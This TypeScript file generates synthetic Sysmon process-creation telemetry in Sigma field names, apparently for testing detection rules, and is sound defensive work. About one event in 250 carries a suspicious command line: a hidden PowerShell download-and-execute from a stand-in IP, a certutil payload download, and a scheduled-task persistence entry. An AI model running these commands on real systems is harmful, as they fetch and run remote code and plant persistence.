import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/**
 * Sysmon-like process-creation events as NDJSON in Sigma field names, about 1 KB each, with
 * a realistic mix of images and command lines (a few of them suspicious) so that rules do
 * real work and most events are benign, as in production telemetry.
 */
const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\conhost.exe', 'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Program Files\\nodejs\\node.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Program Files\\Git\\cmd\\git.exe', 'C:\\Python311\\python.exe', 'C:\\Windows\\System32\\certutil.exe',
  'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\schtasks.exe', 'C:\\Windows\\System32\\whoami.exe',
  'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\System32\\net.exe',
];
const PARENTS = [
  'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\services.exe', 'C:\\Program Files\\nodejs\\node.exe',
  'C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\nodejs\\npm.cmd', 'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'C:\\Python311\\python.exe',
];
const BENIGN_ARGS = [
  '', ' /d /s /c "node-gyp rebuild"', ' -k netsvcs -p -s Schedule', ' --type=renderer --lang=en-US --field-trial-handle=1732',
  ' /all', ' install --no-audit --no-fund', ' query HKLM\\Software\\Microsoft', ' status --porcelain', ' -m pip install requests',
  ' --no-sandbox --disable-gpu', ' /c dir', ' -NoProfile -File C:\\scripts\\build.ps1',
];
/** About one event in 250 carries one of these, as attacks are rare in real telemetry. */
const SUSPICIOUS_ARGS = [
  ' -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
  ' -urlcache -split -f http://203.0.113.7/p.exe p.exe', ' /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute',
];

function pick<T>(xs: T[], n: number): T {
  return xs[n % xs.length]!;
}

export function sysmonProcessCreation(i: number): Record<string, unknown> {
  const image = pick(IMAGES, i * 7 + (i >> 5));
  const parent = pick(PARENTS, i * 13 + (i >> 3));
  const exe = image.slice(image.lastIndexOf('\\') + 1);
  const t = new Date(Date.UTC(2026, 10, 27, 0, 0, 0) + i * 37).toISOString().replace('T', ' ').slice(0, 23);
  const guid = (n: number) => `{5f1c2a10-${(n & 0xffff).toString(16).padStart(4, '0')}-6747-0a00-0000000${(n % 100000).toString().padStart(5, '0')}}`;
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: `WS-${(i % 500).toString().padStart(4, '0')}.corp.example.com`,
    RuleName: '-',
    UtcTime: t,
    ProcessGuid: guid(i),
    ProcessId: 1000 + (i % 60000),
    Image: image,
    FileVersion: '10.0.22621.1 (WinBuild.160101.0800)',
    Description: `${exe} application`,
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: exe.toUpperCase(),
    CommandLine: `"${image}"${i % 250 === 17 ? pick(SUSPICIOUS_ARGS, i >> 8) : pick(BENIGN_ARGS, i * 3 + (i >> 7))}`,
    CurrentDirectory: 'C:\\Users\\dev\\source\\repos\\app\\',
    User: 'CORP\\dev',
    LogonGuid: '{5f1c2a10-1a2b-6747-ad0c-1a0000000000}',
    LogonId: '0x1a0cad',
    TerminalSessionId: 1,
    IntegrityLevel: 'Medium',
    Hashes: 'SHA1=8A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF,IMPHASH=ABCDEF0123456789ABCDEF0123456789',
    ParentProcessGuid: guid(i >> 1),
    ParentProcessId: 900 + (i % 50000),
    ParentImage: parent,
    ParentCommandLine: `"${parent}" --parent-arg ${i % 97}`,
    ParentUser: 'CORP\\dev',
  };
}

export async function writeEvents(path: string, count: number): Promise<number> {
  const out = createWriteStream(path);
  let bytes = 0;
  let chunk = '';
  for (let i = 0; i < count; i += 1) {
    chunk += JSON.stringify(sysmonProcessCreation(i)) + '\n';
    if (chunk.length > 1 << 20) {
      bytes += chunk.length;
      if (!out.write(chunk)) await once(out, 'drain');
      chunk = '';
    }
  }
  bytes += chunk.length;
  out.end(chunk);
  await once(out, 'finish');
  return bytes;
}
